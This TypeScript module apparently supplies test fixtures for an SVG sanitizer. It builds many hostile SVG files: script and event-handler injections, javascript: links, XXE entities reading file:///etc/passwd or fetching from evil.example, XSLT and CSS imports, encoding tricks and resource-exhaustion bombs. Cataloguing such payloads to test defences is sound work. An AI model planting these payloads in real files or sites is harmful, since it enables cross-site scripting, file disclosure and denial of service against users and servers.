/** An SVG file that would run a script or leave the origin if a browser opened it unchanged, or that costs a reader much time. */
export interface HostileSvg {
  /** The kind of attack. */
  kind: string;
  file: string | Uint8Array;
}

const namespace = 'xmlns="http://www.w3.org/2000/svg"';
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const run = `alert(document.domain)`;
const evil = 'http://evil.example';

/** Builds a small drawing with something in it. */
const svg = (inside: string, attributes = ''): string =>
  `<svg ${namespace} ${xlink} width="40" height="40" ${attributes}>${inside}<rect width="9" height="9"/></svg>`;

const named = (kind: string, files: readonly (string | Uint8Array)[]): HostileSvg[] =>
  files.map((file) => ({ kind, file }));

const scripts = named('script', [
  svg(`<script>${run}</script>`),
  svg(`<script type="text/ecmascript"><![CDATA[${run}]]></script>`),
  svg(`<script href="${evil}/a.js"/>`),
  svg(`<script xlink:href="data:text/javascript,${run}"/>`),
  svg(`<script type="module">import '${evil}/a.js'</script>`),
  svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>`),
  svg(`<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`),
  svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="${evil}/a.js"></h:script>`),
  svg(`<g xmlns:x="http://www.w3.org/2000/svg"><x:g><x:script>${run}</x:script></x:g></g>`),
  svg(`<scr&#105;pt>${run}</scr&#105;pt>`),
  svg(`<defs><symbol id="s"><script>${run}</script></symbol></defs><use href="#s"/>`),
  svg(`<switch><script>${run}</script><g/></switch>`),
  svg(`<text><script>${run}</script></text>`),
  svg(`<title><script>${run}</script></title><desc><script>${run}</script></desc>`),
  svg(`<metadata><script>${run}</script></metadata>`),
  svg(`<unknown><script>${run}</script></unknown>`),
  svg(`<!-- a --><script><!-- \n${run}\n//--></script>`),
  `<x:svg xmlns:x="http://www.w3.org/2000/svg" width="9" height="9"><x:script>${run}</x:script></x:svg>`,
]);

const handlers = named('event handler', [
  svg('', `onload="${run}"`),
  svg('', `onload="&#97;lert(1)"`),
  svg(`<g onclick="${run}" onmouseover="${run}" onfocusin="${run}"><rect width="40" height="40"/></g>`),
  svg(`<image href="${evil}/x.png" onerror="${run}" onload="${run}"/>`),
  svg(`<animate attributeName="x" dur="1s" onbegin="${run}"/>`),
  svg(`<set attributeName="onmouseover" to="${run}"/>`),
  svg(`<set attributeName="x" to="9" onend="${run}" dur="1ms"/>`),
  svg(`<style onload="${run}">a{}</style>`),
  svg(
    `<handler xmlns="http://www.w3.org/2000/svg" type="text/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">${run}</handler>`,
  ),
  svg(
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><script id="h">${run}</script>`,
  ),
]);

const documentTypes = named('document type', [
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${svg('')}`,
  `<!DOCTYPE svg [<!ATTLIST rect onclick CDATA #FIXED "${run}" xmlns CDATA "http://www.w3.org/2000/svg">]>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>${run}</script>">]>${svg('&s;')}`,
  `<!DOCTYPE svg [<!ENTITY j "javascript:">]>${svg(`<a href="&j;${run}"><text y="20">x</text></a>`)}`,
  `<!DOCTYPE svg [<!ENTITY % e SYSTEM "${evil}/e.dtd"> %e;]>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY e SYSTEM "${evil}/e.txt">]>${svg('<text>&e;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&e;</text>')}`,
  `<!DOCTYPE svg SYSTEM "${evil}/svg.dtd">${svg('')}`,
  `<!DOCTYPE svg PUBLIC "-//X//DTD X//EN" "${evil}/svg.dtd" [<!NOTATION n SYSTEM "n">]>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${'bcdefghij'[level] ?? ''} "${`&${'abcdefghi'[level] ?? ''};`.repeat(10)}">`).join('')}]>${svg('<text>&j;</text>')}`,
]);

const instructions = named('processing instruction', [
  `<?xml-stylesheet type="text/xsl" href="${evil}/x.xsl"?>${svg('')}`,
  `<?xml-stylesheet type="text/xsl" href="#x"?><svg ${namespace}><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html></xsl:template></xsl:stylesheet></svg>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'%3E%3Cxsl:template match='/'%3E%3Cscript xmlns='http://www.w3.org/1999/xhtml'%3Ealert(1)%3C/script%3E%3C/xsl:template%3E%3C/xsl:stylesheet%3E"?>${svg('')}`,
  `<?xml version="1.0"?><?xml-stylesheet href="${evil}/x.css"?>${svg('')}`,
  svg(`<?xml-stylesheet href="${evil}/x.css"?><?php echo 1 ?>`),
]);

const links = named('link', [
  svg(`<a href="javascript:${run}"><rect width="40" height="40"/></a>`),
  svg(`<a xlink:href="javascript:${run}"><rect width="40" height="40"/></a>`),
  svg(`<a href="java&#9;script:${run}"><rect width="40" height="40"/></a>`),
  svg(`<a href="&#1;javascript:${run}"><rect width="40" height="40"/></a>`),
  svg(`<a href=" \njaVaScRiPt&#58;${run}"><rect width="40" height="40"/></a>`),
  svg(
    `<a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:${run}"><rect width="40" height="40"/></a>`,
  ),
  svg(
    `<a><set attributeName="href" to="javascript:${run}"/><animate attributeName="xlink:href" values="javascript:${run}" begin="0s"/><rect width="40" height="40"/></a>`,
  ),
  svg(`<a href="#" xml:base="javascript:${run}//"><rect width="40" height="40"/></a>`),
  svg(`<a href="${evil}/" target="_top"><rect width="40" height="40"/></a>`),
  svg(`<a href="data:text/html,&lt;script>${run}&lt;/script>"><rect width="40" height="40"/></a>`),
  svg(`<text><a href="javascript:${run}"><tspan y="20">x</tspan></a></text>`),
]);

const references = named('reference', [
  svg(`<image href="${evil}/a.png" width="9" height="9"/>`),
  svg(`<image xlink:href="//evil.example/a.png" width="9" height="9"/>`),
  svg(
    `<image width="9" height="9" href="data:image/svg+xml,&lt;svg ${namespace.replaceAll('"', "'")} onload='${run}'/>"/>`,
  ),
  svg(`<image width="9" height="9" href="data:image/png,x" xml:base="${evil}/"/>`, `xml:base="${evil}/"`),
  svg(`<use href="${evil}/a.svg#x"/>`),
  svg(`<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>`),
  svg(`<use href="/other.svg#x"/>`),
  svg(`<filter id="f"><feImage href="${evil}/a.svg"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
  svg(`<linearGradient id="g" href="${evil}/a.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`),
  svg(`<text><textPath href="${evil}/a.svg#p">x</textPath></text>`),
  svg(`<animateMotion><mpath href="${evil}/a.svg#p"/></animateMotion>`),
  svg(`<cursor id="c" xlink:href="${evil}/a.png"/><rect cursor="url(${evil}/a.png)" width="9" height="9"/>`),
  svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${evil}/a.xml"/>`),
  svg(`<font-face><font-face-src><font-face-uri href="${evil}/a.svg#f"/></font-face-src></font-face>`),
  svg(`<color-profile name="p" href="${evil}/a.icc"/><tref href="${evil}/a.svg#t"/>`),
]);

const styles = named('style', [
  svg(`<style>@import "${evil}/a.css";</style>`),
  svg(`<style>@\\69mport url(${evil}/a.css);</style>`),
  svg(`<style><![CDATA[@import/**/url("//evil.example/a.css");]]></style>`),
  svg(`<style>rect { fill: url(${evil}/a.svg#x) }</style>`),
  svg(`<style>rect { fill: u\\72l(${evil}/a.svg#x); filter: URL("${evil}/b.svg#x") }</style>`),
  svg(`<style>svg { background: image-set("${evil}/a.png" 1x); cursor: url(${evil}/c.cur), auto }</style>`),
  svg(
    `<style>svg { --a: url(${evil}/a.png); --b: "${evil}/b.png"; background: var(--a), image-set(var(--b) 1x) }</style>`,
  ),
  svg(
    `<style>@font-face { font-family: F; src: url(${evil}/f.woff2) } text { font: 9px F }</style><text>x</text>`,
  ),
  svg(
    `<style>@namespace url(${evil}/n); @charset "utf-7"; @document url(${evil}) { rect { fill: red } }</style>`,
  ),
  svg(
    `<style>rect { width: expression(${run}); -moz-binding: url(${evil}/x.xml#x); behavior: url(${evil}/x.htc) }</style>`,
  ),
  svg(`<style>@media all { @supports (x: y) { rect { mask: url(${evil}/m.svg#m) } } }</style>`),
  svg(`<style>rect { & g { fill: red; @import "${evil}/a.css"; mask-image: url('${evil}/m.png') } }</style>`),
  svg(`<style>rect { fill: red; } /* </style><script>${run}</script><style> */</style>`),
  svg(`<style><!-- @import "${evil}/a.css"; --></style>`),
  svg(`<style type="text/xsl">@import "${evil}/a.css";</style>`),
  svg(`<style>&lt;/style>&lt;script>${run}&lt;/script></style>`),
  svg(`<rect style="fill:url(${evil}/a.svg#a);filter:url('//evil.example/b#b')" width="9" height="9"/>`),
  svg(`<rect style="background:url(javascript:${run})" width="9" height="9"/>`),
  svg(`<rect fill="url(${evil}/a.svg#a)" stroke="url('${evil}/b.svg#b')" width="9" height="9"/>`),
  svg(
    `<rect clip-path="url(${evil}/a#a)" mask="url(&quot;${evil}/b#b&quot;)" filter="url(${evil}/c#c)" width="9" height="9"/>`,
  ),
  svg(`<path d="M0 0h9" marker-start="url(${evil}/m#m)" marker-end="u&#114;l(${evil}/m#m)"/>`),
  svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${evil}/a.css"/>`),
]);

const embedded = named('embedded document', [
  svg(
    `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"><img src="x" onerror="${run}"/><script>${run}</script></body></foreignObject>`,
  ),
  svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/"/></foreignObject>`),
  svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${run}&lt;/script>"/>`),
  svg(
    `<embed xmlns="http://www.w3.org/1999/xhtml" src="${evil}/a.swf"/><object xmlns="http://www.w3.org/1999/xhtml" data="${evil}/a.html"/>`,
  ),
  svg(
    `<audio xmlns="http://www.w3.org/1999/xhtml" src="${evil}/a.mp3" autoplay="" onerror="${run}"/><video xmlns="http://www.w3.org/1999/xhtml" poster="${evil}/a.png"/>`,
  ),
  svg(
    `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${evil}/"/><base xmlns="http://www.w3.org/1999/xhtml" href="${evil}/"/>`,
  ),
  svg(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="javascript:${run}">x</maction></math>`,
  ),
  svg(
    `<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><p xmlns="http://www.w3.org/1999/xhtml" onmouseover="${run}">x</p></foreignObject><text>x</text></switch>`,
  ),
]);

const utf16 = (text: string): Uint8Array => Buffer.from(`\uFEFF${text}`, 'utf16le');

const encodings = named('encoding', [
  `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
  utf16(svg(`<script>${run}</script>`)),
  `\uFEFF${svg(`<script>${run}</script>`)}`,
  `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg(`<text>\u001B$B</text><script>${run}</script>`)}`,
  Buffer.concat([Buffer.from(svg('<text>')), Buffer.from([0xc0, 0xbc]), Buffer.from(`script>${run}</text>`)]),
  `<?xml version="1.1"?>${svg(`<a href="&#1;javascript:${run}"><rect width="40" height="40"/></a>`)}`,
]);

const confusions = named('confusion', [
  svg(`<desc><![CDATA[</desc><script>${run}</script>]]></desc>`),
  svg(`<title>&lt;/title>&lt;img src=x onerror=${run}></title>`),
  svg(`<text>]]&gt;<!-- --><![CDATA[<script>${run}</script>]]></text>`),
  svg(`<g id="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;" class="'>&lt;img src=x onerror=${run}>"/>`),
  svg(`<svg ${namespace} onload="${run}"><svg ${namespace} onload="${run}"/></svg>`),
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
  `<svg xmlns="http://www.w3.org/1999/xhtml" width="9" height="9"><script>${run}</script></svg>`,
  `<svg width="9" height="9"><script xmlns="http://www.w3.org/2000/svg">${run}</script></svg>`,
]);

/** Ten levels of ten shapes each, to which the next level is applied. */
function applied(element: string, attribute: string): string {
  const levels = Array.from({ length: 10 }, (_, level) => {
    const shape = `<rect width="9" height="9" ${attribute}="url(#l${String(level + 1)})"/>`;
    return `<${element} id="l${String(level)}" width="9" height="9">${shape.repeat(10)}</${element}>`;
  });
  return `${levels.join('')}<${element} id="l10"><rect width="9" height="9"/></${element}><rect width="40" height="40" ${attribute}="url(#l0)"/>`;
}

/** Forty operations of a filter that each use the one before twice. */
const operations = Array.from(
  { length: 40 },
  (_, i) => `<feBlend in="r${String(i)}" in2="r${String(i)}" result="r${String(i + 1)}"/>`,
).join('');

/** Drawings within drawings. */
const embeddedDrawings = Array.from({ length: 6 }).reduce<string>(
  (inner) => svg(`<image href="data:image/svg+xml;base64,${Buffer.from(inner).toString('base64')}"/>`),
  svg(`<script>${run}</script>`),
);

/** Ten levels of ten copies. */
const copies = Array.from(
  { length: 10 },
  (_, level) => `<g id="l${String(level + 1)}">${`<use href="#l${String(level)}"/>`.repeat(10)}</g>`,
).join('');

const costs = named('cost', [
  svg(`<defs><path id="l0" d="M0 0h9"/>${copies}</defs><use href="#l10"/>`),
  svg(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>`),
  svg(
    Array.from(
      { length: 20_000 },
      (_, i) => `<g id="c${String(i)}"><use href="#c${String(i + 1)}"/></g>`,
    ).join(''),
  ),
  ...['fill', 'stroke', 'mask', 'clip-path'].map((attribute) => {
    const element = { mask: 'mask', 'clip-path': 'clipPath' }[attribute] ?? 'pattern';
    return svg(applied(element, attribute));
  }),
  svg(
    applied('pattern', 'fill').replaceAll(/fill="(url\(#(l\d+)\))"/g, 'class="$2"') +
      `<style>${Array.from({ length: 11 }, (_, i) => `.l${String(i)}{fill:url(#l${String(i)})}`).join('')}</style>`,
  ),
  svg(
    `${applied('pattern', 'data-unused')}<style>${Array.from({ length: 10 }, (_, level) => `#l${String(level)} *|rect{fill:url(#l${String(level + 1)})}`).join('')}</style><g id="l0"><rect width="9" height="9"/></g>`,
  ),
  svg(applied('pattern', 'style').replaceAll('style="url', 'style="fill:url')),
  svg(applied('pattern', 'fill').replaceAll(/(<rect[^>]*) fill=("[^"]*")\/>/g, '<g fill=$2>$1/></g>')),
  svg(
    `<filter id="f"><feOffset result="r0"/>${operations}</filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  embeddedDrawings,
  svg(
    `<style>${Array.from({ length: 20_000 }, (_, i) => `.a{fill:url(#i${String(i)})}`).join('')}</style>${'<g class="a"/>'.repeat(20_000)}`,
  ),
  svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}`),
  svg(`<g id="${'x'.repeat(2_000_000)}"/>`),
  svg(`<style>${'('.repeat(100_000)}</style><rect fill="${'calc('.repeat(50_000)}"/>`),
  svg(`<style>${'a{'.repeat(50_000)}</style>`),
  svg(`<text>${'&amp;'.repeat(200_000)}</text>`),
  `<!DOCTYPE svg [${'<!ELEMENT a ANY>'.repeat(50_000)}]>${svg('')}`,
  `${'<!-- -->'.repeat(50_000)}${svg('')}`,
]);

/** SVG files that each try one way to run a script, to leave the origin or to take much time. */
export const hostileSvgs: readonly HostileSvg[] = [
  ...scripts,
  ...handlers,
  ...documentTypes,
  ...instructions,
  ...links,
  ...references,
  ...styles,
  ...embedded,
  ...encodings,
  ...confusions,
  ...costs,
];
